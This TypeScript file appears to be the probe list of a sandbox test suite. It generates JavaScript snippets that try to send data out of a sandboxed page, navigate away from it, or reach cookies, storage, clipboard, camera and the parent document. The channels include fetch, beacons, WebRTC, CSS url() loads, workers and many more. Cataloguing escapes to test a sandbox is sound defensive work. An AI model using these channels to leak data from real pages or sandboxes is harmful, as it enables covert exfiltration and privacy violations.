/** The address that an attempt tries to reach, one of its own for each, and the server it is served by. */
export interface Aims {
  /** An address of the listening server; to reach it is to have escaped. */
  readonly to: string;
  /** The same for datagrams. */
  readonly udp: number;
  /** The workbench's own server. */
  readonly own: string;
}

type Attempts = Readonly<Record<string, (aims: Aims) => string>>;

const put = (html: string) => `document.body.insertAdjacentHTML("beforeend", ${quoted(html)})`;
const style = (css: string) => put(`<style>${css}</style><i class="lure">x</i>`);
const script = (type: string, text: string) =>
  `document.head.append(Object.assign(document.createElement("script"), {type: "${type}", textContent: ${
    quoted(text)
  }}))`;
const link = (rel: string) => ({ to }: Aims) =>
  `document.head.append(Object.assign(document.createElement("link"), {rel: "${rel}", as: "image", href: "${to}"}))`;
const peer = (udp: number) =>
  `const p = new (realm.RTCPeerConnection ?? realm.webkitRTCPeerConnection)({iceServers: [{urls: "stun:127.0.0.1:${udp}"}]}); p.createDataChannel("x"); p.setLocalDescription()`;
const framed = (attributes: string) =>
  put(`<iframe ${attributes}></iframe>`) + "; await new Promise((done) => setTimeout(done, 300))";

/** Ways for code in a page to send something away without leaving the page. */
export const sendings: Attempts = {
  fetch: ({ to }) => `await fetch("${to}", {mode: "no-cors"})`,
  "fetch to the workbench's server": ({ own }) => `await fetch("${own}/api/files")`,
  "fetch, kept alive": ({ to }) =>
    `await fetch("${to}", {method: "POST", mode: "no-cors", keepalive: true, body: "x"})`,
  "fetch, later": ({ to }) => `fetchLater("${to}", {activateAfter: 0})`,
  "XMLHttpRequest": ({ to }) =>
    `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", "${to}"); x.send() })`,
  "XMLHttpRequest, synchronous": ({ to }) =>
    `const x = new XMLHttpRequest(); x.open("GET", "${to}", false); x.send()`,
  beacon: ({ to }) => `navigator.sendBeacon("${to}", "x")`,
  WebSocket: ({ to }) => `new WebSocket("${to.replace("http", "ws")}")`,
  EventSource: ({ to }) => `new EventSource("${to}")`,
  WebTransport: ({ udp }) => `await new WebTransport("https://127.0.0.1:${udp}/x").ready`,
  "WebRTC": ({ udp }) => `const realm = globalThis; ${peer(udp)}`,
  "WebRTC of a new realm": ({ udp }) =>
    `const f = document.createElement("iframe"); document.body.append(f); const realm = f.contentWindow; ${
      peer(udp)
    }`,
  "WebRTC in a written frame": ({ udp }) =>
    framed(`srcdoc="<script>const realm = self; ${quotedIn(peer(udp))}</script>"`),
  "WebRTC in a javascript: frame": ({ udp }) =>
    framed(`src="javascript:{const realm = self; ${quotedIn(peer(udp))}}"`),
  "WebRTC in a blob: frame": ({ udp }) =>
    `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([${
      quoted(`<script>const realm = self; ${peer(udp)}</script>`)
    }], {type: "text/html"})); document.body.append(f)`,
  "WebRTC in a copy of the frame": ({ own }) => framed(`src="${own}/frame.html"`),
  image: ({ to }) => `new Image().src = "${to}"`,
  "image, chosen from a set": ({ to }) => put(`<img srcset="${to} 1x">`),
  "image of a button": ({ to }) => put(`<input type="image" src="${to}">`),
  picture: ({ to }) => put(`<picture><source srcset="${to}"><img></picture>`),
  audio: ({ to }) => `new Audio("${to}").load()`,
  video: ({ to }) => put(`<video src="${to}" preload="auto"></video>`),
  poster: ({ to }) => put(`<video poster="${to}"></video>`),
  subtitles: ({ to }) =>
    put(`<video src="data:,"><track default kind="captions" src="${to}"></video>`),
  "style sheet by link": ({ to }) => put(`<link rel="stylesheet" href="${to}">`),
  "style sheet by import": ({ to }) => style(`@import url("${to}");`),
  "background in CSS": ({ to }) => style(`.lure { background: url("${to}") }`),
  "image set in CSS": ({ to }) => style(`.lure { background: image-set("${to}" 1x) }`),
  "cursor in CSS": ({ to }) => style(`.lure { cursor: url("${to}"), auto }`),
  "content in CSS": ({ to }) => style(`.lure::after { content: url("${to}") }`),
  "list marker in CSS": ({ to }) =>
    style(`.lure { display: list-item; list-style-image: url("${to}") }`),
  "mask in CSS": ({ to }) => style(`.lure { mask-image: url("${to}") }`),
  "shape in CSS": ({ to }) => style(`.lure { float: left; shape-outside: url("${to}") }`),
  "sheet made by script": ({ to }) =>
    `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { border-image: url("${to}") 1 }'); document.adoptedStyleSheets = [sheet]`,
  "font in CSS": ({ to }) =>
    style(`@font-face { font-family: lure; src: url("${to}") } .lure { font-family: lure }`),
  "font by script": ({ to }) => `await new FontFace("lure", 'url("${to}")').load()`,
  "use in SVG": ({ to }) => put(`<svg><use href="${to}#x"></use></svg>`),
  "image in SVG": ({ to }) => put(`<svg><image href="${to}" width="9" height="9"></image></svg>`),
  "filter in SVG": ({ to }) =>
    put(
      `<svg><filter id="lure"><feImage href="${to}"></feImage></filter><rect width="9" height="9" filter="url(#lure)"></rect></svg>`,
    ),
  "script in SVG": ({ to }) =>
    `const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", "${to}"); document.body.append(s)`,
  script: ({ to }) =>
    `document.body.append(Object.assign(document.createElement("script"), {src: "${to}"}))`,
  "module script": ({ to }) =>
    `document.body.append(Object.assign(document.createElement("script"), {type: "module", src: "${to}"}))`,
  "script of data": ({ to }) =>
    `document.body.append(Object.assign(document.createElement("script"), {src: "data:text/javascript,new Image().src='${to}'"}))`,
  "script of a blob": ({ to }) =>
    `document.body.append(Object.assign(document.createElement("script"), {src: URL.createObjectURL(new Blob(["new Image().src='${to}'"]))}))`,
  "script written in place": ({ to }) => script("", `new Image().src = "${to}"`),
  "import()": ({ to }) => `await (0, eval)('import("${to}")')`,
  "import() of a sheet": ({ to }) => `await (0, eval)('import("${to}", {with: {type: "css"}})')`,
  "import map": ({ to }) =>
    `${script("importmap", `{"imports": {"lure": "${to}"}}`)}; await (0, eval)('import("lure")')`,
  "speculation rules": ({ to }) =>
    script("speculationrules", `{"prefetch": [{"urls": ["${to}"], "eagerness": "immediate"}]}`),
  prefetch: link("prefetch"),
  prerender: link("prerender"),
  preload: link("preload"),
  modulepreload: link("modulepreload"),
  preconnect: link("preconnect"),
  "dns-prefetch": link("dns-prefetch"),
  manifest: link("manifest"),
  icon: link("icon"),
  "sheet to come": link("alternate stylesheet"),
  frame: ({ to }) => framed(`src="${to}"`),
  "frame without credentials": ({ to }) => framed(`credentialless src="${to}"`),
  "frame in a written frame": ({ to }) => framed(`srcdoc="<img src='${to}'>"`),
  object: ({ to }) => put(`<object data="${to}"></object>`),
  embed: ({ to }) => put(`<embed src="${to}">`),
  portal: ({ to }) => put(`<portal src="${to}"></portal>`),
  "fenced frame": ({ to }) =>
    `const f = document.createElement("fencedframe"); f.config = new FencedFrameConfig("${to}"); document.body.append(f)`,
  worker: ({ to }) => `new Worker(${blob(`fetch("${to}", {mode: "no-cors"})`)})`,
  "worker that imports": ({ to }) => `new Worker(${blob(`importScripts("${to}")`)})`,
  "worker with a socket": ({ to }) =>
    `new Worker(${blob(`new WebSocket("${to.replace("http", "ws")}")`)})`,
  "worker of data": ({ to }) => `new Worker("data:text/javascript,fetch('${to}')")`,
  "worker from afar": ({ to }) => `new Worker("${to}")`,
  "shared worker": ({ to }) => `new SharedWorker(${blob(`fetch("${to}", {mode: "no-cors"})`)})`,
  "service worker": ({ to }) => `await navigator.serviceWorker.register("${to}")`,
  "audio worklet": ({ to }) =>
    `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("${to}")`,
  "paint worklet": ({ to }) => `await CSS.paintWorklet.addModule("${to}")`,
  ping: ({ to }) =>
    `const a = document.createElement("a"); a.href = "#"; a.ping = "${to}"; document.body.append(a); a.click()`,
  "form into a new window": ({ to }) =>
    `const f = document.createElement("form"); f.action = "${to}"; f.target = "_blank"; document.body.append(f); f.submit()`,
  "button of a form": ({ to }) =>
    `${
      put(`<form target="_blank"><button id="lure" formaction="${to}">x</button></form>`)
    }; document.getElementById("lure").click()`,
  "window.open": ({ to }) => `window.open("${to}")`,
  "link into a new window": ({ to }) =>
    `const a = document.createElement("a"); a.href = "${to}"; a.target = "_blank"; document.body.append(a); a.click()`,
  download: ({ to }) =>
    `const a = document.createElement("a"); a.href = "${to}"; a.download = "x"; document.body.append(a); a.click()`,
  base: ({ to }) =>
    `document.head.prepend(Object.assign(document.createElement("base"), {href: "${to}"})); new Image().src = "${
      new URL(to).pathname
    }"`,
  "report of a broken policy": ({ to }) =>
    `document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri ${to}"})); new Image().src = "data:,"`,
  "endpoints of the Reporting API": ({ to }) =>
    `document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "Reporting-Endpoints", content: 'default="${to}"'})); new ReportingObserver(() => {}).observe()`,
  payment: ({ to }) =>
    `await new PaymentRequest([{supportedMethods: "${to}"}], {total: {label: "x", amount: {currency: "JPY", value: "1"}}}).canMakePayment()`,
  "identity provider": ({ to }) =>
    `await navigator.credentials.get({identity: {providers: [{configURL: "${to}", clientId: "x"}]}})`,
  "protocol handler": ({ to }) => `navigator.registerProtocolHandler("web+lure", "${to}?%s")`,
  notification: ({ to }) => `new Notification("x", {icon: "${to}"})`,
  "document type": ({ to }) =>
    `new DOMParser().parseFromString('<!DOCTYPE x SYSTEM "${to}"><x/>', "text/xml")`,
};

/** Ways to carry something away by going there, or to take the page along. Each runs in a page of its own. */
export const leavings: Attempts = {
  "location.href": ({ to }) => `location.href = "${to}"`,
  "location.replace": ({ to }) => `location.replace("${to}")`,
  "navigation.navigate": ({ to }) => `navigation.navigate("${to}")`,
  "meta refresh": ({ to }) => put(`<meta http-equiv="refresh" content="0;url=${to}">`),
  "link to follow": ({ to }) =>
    `const a = document.createElement("a"); a.href = "${to}"; document.body.append(a); a.click()`,
  "form to send": ({ to }) =>
    `const f = document.createElement("form"); f.action = "${to}"; document.body.append(f); f.submit()`,
  "a page of data": ({ to }) => `location = "data:text/html,<img src='${to}'>"`,
  "a page of a blob": ({ to }) =>
    `location = URL.createObjectURL(new Blob(["<img src='${to}'>"], {type: "text/html"}))`,
  "a page written anew": ({ to }) => `document.open(); document.write("<img src='${to}'>")`,
  "a page by javascript:": ({ to }) => `location = "javascript:'<img src=${to}>'"`,
  "the workbench's own page": ({ own }) => `location = "${own}/"`,
  "the page around": ({ to }) => `parent.location = "${to}"`,
  "the topmost page": ({ to }) => `top.location.href = "${to}"`,
  "the topmost page by a link": ({ to }) =>
    `const a = document.createElement("a"); a.href = "${to}"; a.target = "_top"; document.body.append(a); a.click()`,
  "the topmost page by a form": ({ to }) =>
    `const f = document.createElement("form"); f.action = "${to}"; f.target = "_top"; document.body.append(f); f.submit()`,
  "back in history": () => `history.go(-1)`,
};

/** Things around a page to lay hands on. Each is true where it was to be had. */
export const grabs: Attempts = {
  "the document around": () => `parent.document`,
  "the topmost document": () => `top.document`,
  "the storage around": () => `parent.localStorage`,
  "the address around": () => `parent.location.href`,
  "the frame's element": () => `frameElement`,
  opener: () => `window.opener`,
  "an origin": () => `origin !== "null"`,
  "document.domain": () => `(document.domain = "127.0.0.1")`,
  localStorage: () => `localStorage`,
  sessionStorage: () => `sessionStorage`,
  indexedDB: () =>
    `await new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = done; r.onerror = fail })`,
  caches: () => `await caches.open("x")`,
  "a cookie": () => `(document.cookie = "a=b", document.cookie)`,
  "files of the origin": () => `await navigator.storage.getDirectory()`,
  "the clipboard's text": () => `await navigator.clipboard.readText()`,
  "the clipboard to write": () => `(await navigator.clipboard.writeText("x"), true)`,
  "the clipboard by command": () =>
    `(getSelection().selectAllChildren(document.body), document.execCommand("copy"))`,
  "a file picker": () => `await showOpenFilePicker()`,
  "an answer of a dialog": () => `confirm("x")`,
  "the screen": () => `(await document.body.requestFullscreen(), true)`,
  "the pointer": () => `(await document.body.requestPointerLock(), document.pointerLockElement)`,
  "a camera": () => `await navigator.mediaDevices.getUserMedia({video: true})`,
  "a place": () =>
    `await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))`,
  "leave to notify": () => `(await Notification.requestPermission()) === "granted"`,
  "storage by request": () =>
    `(await document.requestStorageAccess(), document.hasStorageAccess())`,
};

function blob(source: string): string {
  return `URL.createObjectURL(new Blob([${quoted(source)}]))`;
}

function quoted(text: string): string {
  return JSON.stringify(text);
}

function quotedIn(text: string): string {
  return text.replaceAll('"', "&quot;");
}
